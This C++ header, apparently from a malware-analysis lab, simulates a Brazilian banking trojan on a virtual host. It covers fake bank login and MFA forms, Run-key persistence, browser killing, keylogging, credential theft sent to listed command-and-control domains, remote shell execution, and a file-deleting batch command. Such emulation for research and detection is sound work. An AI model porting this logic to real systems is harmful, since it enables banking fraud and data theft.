// Implant state machine: boot flow (lure form, daily-block check, Data.log,
// basic exfil), the OnLoad persistence/geolocation pass, and the full command
// dispatcher including the RFID sub-commands. Every action lands on the virtual
// host or in the outbound packet list; nothing else is touched.

#pragma once

#include "bqlab/geoip.hpp"
#include "bqlab/rng.hpp"
#include "bqlab/virtualhost.hpp"
#include "bqlab/wire.hpp"

namespace bqlab::implant {

/// Parameters embedded in the sample's parameters class, defaults as recovered.
struct ImplantConfig {
    std::string version = "1.0.00.r6";
    codec::Passphrase password{"5EPmsqV4iTCGjx9aY3yYpBWD0IgEJpHNEP75pks"};
    std::string installName = "INSTALL";
    std::string mutexName = "e4d6a6ec-320d-48ee-b6b2-fa24f03760d4";
    std::string startupKey = "STARTUP";
    bool hideFile = true;
    bool enableLogger = true;
    codec::Passphrase encryptionKey{"O2CCRlKB5V3AWlrHVKWMrr1GvKqVxXWdcx0l0s6L8fB2mavMqr"};
    std::uint32_t reconnectDelayMs = 5000;
    std::vector<std::pair<std::string, std::uint16_t>> hosts = {
        {"notificacao.noticiasnovidads.xyz", 443}};
    std::size_t maxBlock = wire::kDefaultMaxBlock;
    std::string installPath; // empty -> <Roaming>\SUB\INSTALL for the host user

    std::string installPathFor(const host::VirtualHost& h) const {
        return installPath.empty() ? h.roamingDir() + "\\SUB\\" + installName : installPath;
    }
};

struct ImplantState {
    bool connected = false;
    bool authenticated = false;
    bool keylogActive = false;
    std::string keylogBuffer;
    bool mutexHeld = false;
    bool dataLogWritten = false;
    std::map<std::string, wire::BlockTransfer> activeTransfers;
    std::optional<codec::SessionKey> sessionKey;
    std::optional<wire::GeoResult> geo;
};

// ---- bank form mimicry ----

enum class BankCode {
    BB6,
    BB8,
    QrBancoDoBrasil,
    QrItau,
    QrBradesco,
    QrCaixa,
    QrSantander,
    QrSafra,
    QrSicredi,
};

enum class FormKind { Login, Mfa, Qr };

struct FormSpec {
    std::string bankLabel;
    FormKind kind = FormKind::Login;
    std::optional<int> inputMaxLength;
};

inline BankCode parseBankCode(std::string_view code) {
    static const std::map<std::string, BankCode, std::less<>> table = {
        {"BB6", BankCode::BB6},
        {"BB8", BankCode::BB8},
        {"QR_BB", BankCode::QrBancoDoBrasil},
        {"QR_ITAU", BankCode::QrItau},
        {"QR_BRADESCO", BankCode::QrBradesco},
        {"QR_CAIXA", BankCode::QrCaixa},
        {"QR_SANTANDER", BankCode::QrSantander},
        {"QR_SAFRA", BankCode::QrSafra},
        {"QR_SICREDI", BankCode::QrSicredi},
    };
    auto it = table.find(code);
    if (it == table.end()) throw UnknownBankCode("no form for bank code " + std::string(code));
    return it->second;
}

inline FormSpec formSpecFor(BankCode code) {
    switch (code) {
        case BankCode::BB6: return {"Banco do Brasil SA", FormKind::Mfa, 6};
        case BankCode::BB8: return {"Banco do Brasil SA", FormKind::Mfa, 8};
        case BankCode::QrBancoDoBrasil: return {"Banco do Brasil SA", FormKind::Qr, {}};
        case BankCode::QrItau: return {"Itaú Unibanco Holding SA", FormKind::Qr, {}};
        case BankCode::QrBradesco: return {"Banco Bradesco SA", FormKind::Qr, {}};
        case BankCode::QrCaixa: return {"Caixa Econômica Federal", FormKind::Qr, {}};
        case BankCode::QrSantander: return {"Banco Santander Chile/Mexico", FormKind::Qr, {}};
        case BankCode::QrSafra: return {"Banco Safra", FormKind::Qr, {}};
        case BankCode::QrSicredi: return {"Banco Cooperativo Sicredi", FormKind::Qr, {}};
    }
    throw UnknownBankCode("unmapped bank code");
}

inline FormSpec mfaPrompt(std::string_view code) {
    return formSpecFor(parseBankCode(code));
}

// ---- dormant helpers ----

/// True iff every character of `letters` appears in `s` in order, with
/// arbitrary gaps. The sample keeps this as a pre-built regex of the letters
/// separated by wildcards.
inline bool ibankingMatch(std::string_view letters, std::string_view s) {
    std::size_t i = 0;
    for (char c : s) {
        if (i < letters.size() && c == letters[i]) ++i;
    }
    return i == letters.size();
}

/// The six backup domains baked into returnRandomDomain; always paired with 443.
inline const std::vector<std::string>& fallbackDomains() {
    static const std::vector<std::string> domains = {
        "agicltursement.ink",  "cfestlolequiep.store", "gastronomleo.lat",
        "mercantokiko.xyz",    "noticiasnovidads.xyz", "varjolatijolos.space",
    };
    return domains;
}

inline std::pair<std::string, std::uint16_t> pickFallbackDomain(
    Rng& rng, const std::vector<std::string>& domains = fallbackDomains()) {
    if (domains.empty()) throw EmptyDomainList("fallback domain list is empty");
    return {domains[rng.below(domains.size())], 443};
}

// ---- fixed tables ----

/// Browsers killed while the daily block is active.
inline const std::vector<std::string>& browserKillList() {
    static const std::vector<std::string> list = {
        "chrome.exe", "msedge.exe", "firefox.exe", "opera.exe", "avastbrowser.exe",
    };
    return list;
}

/// Banking-protection products scanned for, in order, and the plugin code each
/// one contributes. Code values are lab-assigned.
inline const std::vector<std::pair<std::string, std::string>>& bankingSoftwareMarkers() {
    static const std::vector<std::pair<std::string, std::string>> markers = {
        {"aplicativo itau", "IT"},
        {"topaz ofd", "TO"},
        {"trusteer", "TR"},
        {"scpbrad", "BR"},
    };
    return markers;
}

/// Mouse-customization value names removed during the cursor-hiding pass.
inline const std::vector<std::string>& cursorValueNames() {
    static const std::vector<std::string> names = {
        "AppStarting", "Arrow",  "Crosshair", "Hand",   "Help",   "IBeam",   "No", "NWPen",
        "SizeAll",     "SizeNESW", "SizeNS",  "SizeNWSE", "SizeWE", "UpArrow", "Wait",
    };
    return names;
}

inline constexpr const char* kCursorKeyPath = R"(Control Panel\Cursors)";

struct StartupLocation {
    std::string hive;
    std::string keyPath;
    bool x64Only = false;
};

/// The five Run/RunOnce locations the sample manages; the Wow6432Node pair
/// exists only on x64 hosts.
inline const std::vector<StartupLocation>& startupLocations() {
    static const std::vector<StartupLocation> locations = {
        {"HKEY_LOCAL_MACHINE", R"(Software\Microsoft\Windows\CurrentVersion\Run)", false},
        {"HKEY_CURRENT_USER", R"(Software\Microsoft\Windows\CurrentVersion\Run)", false},
        {"HKEY_CURRENT_USER", R"(Software\Microsoft\Windows\CurrentVersion\RunOnce)", false},
        {"HKEY_LOCAL_MACHINE", R"(SOFTWARE\Wow6432Node\Microsoft\Windows\Run)", true},
        {"HKEY_LOCAL_MACHINE", R"(SOFTWARE\Wow6432Node\Microsoft\Windows\RunOnce)", true},
    };
    return locations;
}

inline constexpr const char* kLureFormTitle = "Internet Banking CAIXA";

// ---- the state machine ----

class ImplantSim {
public:
    ImplantSim(host::VirtualHost& host, ImplantConfig cfg, geoip::Transport geoTransport)
        : host_(host), cfg_(std::move(cfg)), geoTransport_(std::move(geoTransport)) {
        modulePath_ = R"(C:\Users\)" + host_.userName + R"(\Downloads\xxwewe33\vstdlib_s64.dll)";
        hostProcessImage_ = R"(C:\Users\)" + host_.userName + R"(\Downloads\xxwewe33\EIUWI383IE.exe)";
    }

    ImplantState& state() { return state_; }
    const ImplantConfig& config() const { return cfg_; }
    const std::string& modulePath() const { return modulePath_; }
    void setModulePath(std::string path) { modulePath_ = std::move(path); }
    const std::string& hostProcessImage() const { return hostProcessImage_; }
    void setHostProcessImage(std::string path) { hostProcessImage_ = std::move(path); }

    std::string moduleDir() const {
        auto slash = modulePath_.find_last_of('\\');
        return slash == std::string::npos ? modulePath_ : modulePath_.substr(0, slash);
    }

    std::string logsDir() const { return host_.roamingDir() + "\\SUB\\Logs"; }

    /// Lure form, optional daily-block branch, Data.log bookkeeping, then the
    /// OnLoad persistence pass. Returns the packets queued for the controller.
    std::vector<wire::Packet> boot(bool userClicksLure = true) {
        host_.pushEvent(host::events::kFormShown,
                        {{"Title", "login"}, {"Details", kLureFormTitle}});
        if (userClicksLure) checkDailyBlock();
        auto outbound = writeDataLog();
        onLoad();
        return outbound;
    }

    void checkDailyBlock() {
        const std::string blockPath = host_.documentsDir() + "\\daily.block";
        if (!host_.fsExists(blockPath)) {
            if (!state_.connected) reconnectNow();
            return;
        }
        host_.pushEvent(host::events::kMessageBox,
                        {{"Details", "An error occurred. Please try again later."}});
        for (const auto& browser : browserKillList()) host_.procKillByName(browser);
        if (!state_.connected) reconnectNow();
        checkShellExistAndCloseMutex();
    }

    /// Data.log doubles as an infection marker and timestamp: first call creates
    /// it with the virtual date and posts the basic exfil, later calls exit.
    std::vector<wire::Packet> writeDataLog() {
        const std::string path = moduleDir() + "\\Data.log";
        if (host_.fsExists(path)) return {};
        host_.fsWrite(path, toBytes(host_.currentDate()));
        state_.dataLogWritten = true;
        auto [info, doc] = postBasicExfil();
        (void)doc;
        state_.authenticated = true;
        return {wire::Packet{info}};
    }

    /// Machine name, date/time and banking-plugin codes, each value Base64
    /// inside a fixed-key JSON document, plus the matching packet.
    std::pair<wire::BasicAssetInfo, std::string> postBasicExfil() {
        wire::BasicAssetInfo info;
        info.machineName = host_.machineName;
        info.dateTime = host_.currentDateTime();
        info.pluginCodes = detectBankingSoftware();

        std::string joined;
        for (const auto& code : info.pluginCodes) {
            if (!joined.empty()) joined += ',';
            joined += code;
        }
        nlohmann::json doc;
        doc["MAQUINA"] = base64::encode(info.machineName);
        doc["DATA"] = base64::encode(info.dateTime);
        doc["PLUGIN"] = base64::encode(joined);

        host_.pushEvent(host::events::kNetworkConnect,
                        {{"DestinationHostname", cfg_.hosts.front().first},
                         {"Details", std::to_string(cfg_.hosts.front().second)}});
        return {std::move(info), doc.dump()};
    }

    std::vector<std::string> detectBankingSoftware() const {
        std::vector<std::string> codes;
        for (const auto& [marker, code] : bankingSoftwareMarkers()) {
            for (const auto& product : host_.installedSoftware) {
                std::string lowered;
                for (char c : product)
                    lowered += static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
                if (lowered.find(marker) != std::string::npos) {
                    codes.push_back(code);
                    break;
                }
            }
        }
        return codes;
    }

    /// Mutex gate, session-key derivation, geolocation, Run-key persistence,
    /// cursor hiding and the filesystem install, in the sample's order.
    void onLoad() {
        if (host_.mutexes.count(cfg_.mutexName)) {
            state_.mutexHeld = false;
            state_.connected = false;
            return;
        }
        host_.mutexes.insert(cfg_.mutexName);
        state_.mutexHeld = true;

        state_.sessionKey = codec::deriveKey(cfg_.password);

        // host list refresh: the endpoints already live in cfg_.hosts

        try {
            state_.geo = geoip::locate(host_, geoTransport_);
        } catch (const AllProvidersFailed&) {
            state_.geo.reset();
        }

        setStartupRegistry();
        cursorHidingPass();
        installSelf();
        state_.connected = false;
    }

    /// Writes the startup value to every managed location the host supports.
    void setStartupRegistry() {
        for (const auto& loc : startupLocations()) {
            if (loc.x64Only && !host_.x64) continue;
            host_.regSet(loc.hive, loc.keyPath, cfg_.startupKey, modulePath_);
        }
    }

    std::vector<wire::StartupItem> getStartupItems() const {
        std::vector<wire::StartupItem> items;
        for (const auto& loc : startupLocations()) {
            if (loc.x64Only && !host_.x64) continue;
            for (const auto& [name, data] : host_.regValuesUnder(loc.hive, loc.keyPath))
                items.push_back({loc.hive + "\\" + loc.keyPath, name, data});
        }
        return items;
    }

    /// Removes `valueName` from every managed location; NotFound when absent everywhere.
    std::size_t deleteStartupValue(const std::string& valueName) {
        std::size_t removed = 0;
        for (const auto& loc : startupLocations()) {
            if (loc.x64Only && !host_.x64) continue;
            if (host_.regExists(loc.hive, loc.keyPath, valueName)) {
                host_.regDelete(loc.hive, loc.keyPath, valueName);
                ++removed;
            }
        }
        if (removed == 0)
            throw NotFound("startup value not present anywhere: " + valueName);
        return removed;
    }

    /// Dispatches one controller packet; responses always start with the basic
    /// asset info until the session is authenticated. Per-command failures come
    /// back as ErrorReport packets.
    std::vector<wire::Packet> handlePacket(const wire::Packet& packet) {
        std::vector<wire::Packet> out;
        if (!state_.authenticated) {
            out.push_back(wire::Packet{postBasicExfil().first});
            state_.authenticated = true;
        }
        try {
            dispatch(packet, out);
        } catch (const LabError& e) {
            out.push_back(wire::Packet{wire::ErrorReport{e.what()}});
        }
        return out;
    }

    void keylogCapture(const std::string& text) {
        if (state_.keylogActive) state_.keylogBuffer += text;
        host_.inputLog.push_back(text);
    }

    void showNotification(const std::string& body) {
        host_.pushEvent(host::events::kNotification,
                        {{"Title", "Update Windows"}, {"Details", body}});
    }

    void reconnectNow() {
        host_.pushEvent(host::events::kNetworkConnect,
                        {{"DestinationHostname", cfg_.hosts.front().first},
                         {"Details", std::to_string(cfg_.hosts.front().second)}});
        state_.connected = true;
    }

private:
    void checkShellExistAndCloseMutex() {
        // the sample only probes for a live shell handle here; nothing observable
    }

    void cursorHidingPass() {
        if (host_.fsExists(host_.tempDir() + "\\transparent.cur")) return;
        if (host_.regValuesUnder("HKEY_CURRENT_USER", kCursorKeyPath).empty()) return;
        for (const auto& name : cursorValueNames())
            if (host_.regExists("HKEY_CURRENT_USER", kCursorKeyPath, name))
                host_.regDelete("HKEY_CURRENT_USER", kCursorKeyPath, name);
    }

    void installSelf() {
        const std::string dir = cfg_.installPathFor(host_);
        for (const auto& path : host_.filesUnder(dir)) {
            for (const auto& entry : host_.procList()) {
                if (host::detail::normalizePath(entry.image) ==
                    host::detail::normalizePath(path)) {
                    host_.procKill(entry.pid);
                    // freeing the in-use file costs one reconnect delay
                    host_.clockAdvance(cfg_.reconnectDelayMs);
                }
            }
            host_.fsDelete(path);
        }

        std::string fileName = modulePath_;
        if (auto slash = fileName.find_last_of('\\'); slash != std::string::npos)
            fileName = fileName.substr(slash + 1);
        const std::string target = dir + "\\" + fileName;
        Bytes image = host_.fsExists(modulePath_) ? host_.fsRead(modulePath_)
                                                  : toBytes("module-image");
        host_.fsWrite(target, std::move(image), cfg_.hideFile);
        host_.procSpawn(target, target, hostProcessImage_);
    }

    void dispatch(const wire::Packet& packet, std::vector<wire::Packet>& out) {
        const std::uint8_t tag = wire::tagOf(packet);
        auto ack = [&] { out.push_back(wire::Packet{wire::Ack{tag}}); };

        std::visit(
            [&](const auto& cmd) {
                using T = std::decay_t<decltype(cmd)>;

                if constexpr (std::is_same_v<T, wire::Reconnect>) {
                    reconnectNow();
                    ack();
                } else if constexpr (std::is_same_v<T, wire::Disconnect>) {
                    state_.connected = false;
                    ack();
                } else if constexpr (std::is_same_v<T, wire::UninstallPersistence>) {
                    uninstallPersistence();
                    ack();
                } else if constexpr (std::is_same_v<T, wire::GetStartupItems>) {
                    out.push_back(wire::Packet{wire::StartupItems{getStartupItems()}});
                } else if constexpr (std::is_same_v<T, wire::AddStartupItem>) {
                    host_.regSet("HKEY_CURRENT_USER",
                                 R"(Software\Microsoft\Windows\CurrentVersion\Run)", cmd.keyName,
                                 cmd.path);
                    ack();
                } else if constexpr (std::is_same_v<T, wire::RemoveStartupItem>) {
                    deleteStartupValue(cmd.keyName);
                    ack();
                } else if constexpr (std::is_same_v<T, wire::ExfilMonitorSettings>) {
                    wire::MonitorSettings settings;
                    settings.fields = {{"MonitorCount", "1"},
                                       {"Resolution", "1920x1080"},
                                       {"SessionUser", host_.userName}};
                    out.push_back(wire::Packet{std::move(settings)});
                } else if constexpr (std::is_same_v<T, wire::ExfilProcesses>) {
                    out.push_back(wire::Packet{wire::ProcessList{host_.procList()}});
                } else if constexpr (std::is_same_v<T, wire::ExfilDrives>) {
                    out.push_back(wire::Packet{wire::DriveList{host_.drives}});
                } else if constexpr (std::is_same_v<T, wire::KillProcess>) {
                    host_.procKill(cmd.pid);
                    ack();
                } else if constexpr (std::is_same_v<T, wire::StartProcess>) {
                    host_.procSpawn(cmd.path,
                                    cmd.args.empty() ? cmd.path : cmd.path + " " + cmd.args,
                                    hostProcessImage_);
                    ack();
                } else if constexpr (std::is_same_v<T, wire::ExfilAssetInfo>) {
                    wire::AssetInfoExtended info;
                    info.fields = {{"Architecture", host_.x64 ? "x64" : "x86"},
                                   {"ImplantVersion", cfg_.version},
                                   {"MachineName", host_.machineName},
                                   {"OSVersion", host_.osVersion},
                                   {"UserName", host_.userName}};
                    out.push_back(wire::Packet{std::move(info)});
                } else if constexpr (std::is_same_v<T, wire::InputDeviceAction>) {
                    host_.pushEvent(host::events::kInputAction, {{"Details", cmd.kind}});
                    ack();
                } else if constexpr (std::is_same_v<T, wire::ShowMessageBox>) {
                    host_.pushEvent(host::events::kMessageBox, {{"Details", cmd.text}});
                    ack();
                } else if constexpr (std::is_same_v<T, wire::ShowMfaForm>) {
                    showForm(cmd.bankCode);
                    ack();
                } else if constexpr (std::is_same_v<T, wire::ShowQrForm>) {
                    showForm(cmd.bankCode);
                    ack();
                } else if constexpr (std::is_same_v<T, wire::RfidCommand>) {
                    handleRfid(cmd, out);
                } else if constexpr (std::is_same_v<T, wire::ShellCommand>) {
                    runShell(cmd.commandLine);
                    ack();
                } else if constexpr (std::is_same_v<T, wire::RenamePath>) {
                    Bytes contents = host_.fsRead(cmd.from);
                    const bool hidden = host_.fsHidden(cmd.from);
                    host_.fsDelete(cmd.from);
                    host_.fsWrite(cmd.to, std::move(contents), hidden);
                    ack();
                } else if constexpr (std::is_same_v<T, wire::Shutdown>) {
                    host_.pushEvent(host::events::kShutdown, {{"User", host_.userName}});
                    state_.connected = false;
                    ack();
                } else if constexpr (std::is_same_v<T, wire::Reboot>) {
                    host_.pushEvent(host::events::kReboot, {{"User", host_.userName}});
                    ack();
                } else if constexpr (std::is_same_v<T, wire::CancelDownloads>) {
                    state_.activeTransfers.clear();
                    ack();
                } else if constexpr (std::is_same_v<T, wire::ConnectReverseProxy>) {
                    host_.pushEvent(host::events::kNetworkConnect,
                                    {{"DestinationHostname", cmd.host},
                                     {"Details", std::to_string(cmd.port)}});
                    ack();
                } else if constexpr (std::is_same_v<T, wire::RequestLogs>) {
                    for (const auto& path : host_.filesUnder(logsDir()))
                        streamFile(path, out);
                } else if constexpr (std::is_same_v<T, wire::RequestCredentials>) {
                    std::string doc;
                    for (const auto& cred : host_.credentialFixtures)
                        doc += cred.source + "\t" + cred.username + "\t" + cred.secret + "\n";
                    streamDocument("credentials.dat", toBytes(doc), out);
                } else {
                    // implant-bound report echoed back at us; the sample ignores these
                    ack();
                }
            },
            packet);
    }

    void uninstallPersistence() {
        for (const auto& loc : startupLocations()) {
            if (loc.x64Only && !host_.x64) continue;
            if (host_.regExists(loc.hive, loc.keyPath, cfg_.startupKey))
                host_.regDelete(loc.hive, loc.keyPath, cfg_.startupKey);
        }
        for (const auto& path : host_.filesUnder(cfg_.installPathFor(host_)))
            host_.fsDelete(path);
    }

    void showForm(const std::string& bankCode) {
        const FormSpec spec = mfaPrompt(bankCode); // throws UnknownBankCode
        const char* kind = spec.kind == FormKind::Mfa ? "mfa"
                           : spec.kind == FormKind::Qr ? "qr"
                                                       : "login";
        host_.pushEvent(host::events::kFormShown, {{"Title", kind}, {"Details", spec.bankLabel}});
    }

    void runShell(const std::string& commandLine) {
        auto it = host_.shellOutputs.find(commandLine);
        const std::string output = it == host_.shellOutputs.end() ? "" : it->second;
        (void)output; // canned output stays host-side; the wire sees only the ack
        host_.procSpawn(R"(C:\Windows\System32\cmd.exe)", "cmd.exe /C " + commandLine,
                        hostProcessImage_);
    }

    void streamFile(const std::string& path, std::vector<wire::Packet>& out) {
        std::string name = path;
        if (auto slash = name.find_last_of('\\'); slash != std::string::npos)
            name = name.substr(slash + 1);
        streamDocument(name, host_.fsRead(path), out);
    }

    void streamDocument(const std::string& name, ByteView contents,
                        std::vector<wire::Packet>& out) {
        wire::BlockTransfer& transfer = state_.activeTransfers[name];
        for (auto& block : wire::chunkFile(name, contents, cfg_.maxBlock)) {
            transfer.ingest(block);
            out.push_back(wire::Packet{wire::FileBlockMsg{std::move(block)}});
        }
    }

    void handleRfid(const wire::RfidCommand& cmd, std::vector<wire::Packet>& out) {
        auto ack = [&] {
            out.push_back(wire::Packet{wire::Ack{wire::PacketTraits<wire::RfidCommand>::kTag}});
        };
        switch (cmd.code) {
            case 3: // keylogger on
                state_.keylogActive = true;
                ack();
                break;
            case 4: // flush captured text
                out.push_back(wire::Packet{wire::KeylogData{state_.keylogBuffer}});
                state_.keylogBuffer.clear();
                break;
            case 7: { // drop deleteFiles.bat and clear the Videos folder
                host_.fsWrite(moduleDir() + "\\deleteFiles.bat",
                              toBytes("del /f /q \"" + host_.videosDir() + "\\*\"\r\n"));
                for (const auto& path : host_.filesUnder(host_.videosDir()))
                    host_.fsDelete(path);
                ack();
                break;
            }
            case 8: { // persist the operation log
                const std::string path = logsDir() + "\\" + host_.currentDate() + ".log";
                std::string contents;
                for (const auto& line : host_.inputLog) {
                    contents += line;
                    contents += '\n';
                }
                host_.fsWrite(path, toBytes(contents));
                ack();
                break;
            }
            case 9: { // report which host-version branch would run
                wire::AssetInfoExtended info;
                info.fields = {{"OSVersion", host_.osVersion},
                               {"VersionBranch", host_.x64 ? "x64" : "x86"}};
                out.push_back(wire::Packet{std::move(info)});
                break;
            }
            case 11: // browser/credential inventory
                out.push_back(wire::Packet{wire::CredentialDump{host_.credentialFixtures}});
                break;
            case 12: { // drop filedados.vbs from the supplied Base64, exfil contacts
                Bytes script = base64::decode(cmd.argument); // InvalidBase64 -> ErrorReport
                host_.fsWrite(moduleDir() + "\\filedados.vbs", std::move(script));
                wire::CredentialDump contacts;
                for (const auto& contact : host_.contactFixtures)
                    contacts.entries.push_back({"outlook", contact, ""});
                out.push_back(wire::Packet{std::move(contacts)});
                break;
            }
            default:
                out.push_back(wire::Packet{wire::ErrorReport{"unknown rfid"}});
        }
    }

    host::VirtualHost& host_;
    ImplantConfig cfg_;
    geoip::Transport geoTransport_;
    ImplantState state_;
    std::string modulePath_;
    std::string hostProcessImage_;
};

} // namespace bqlab::implant
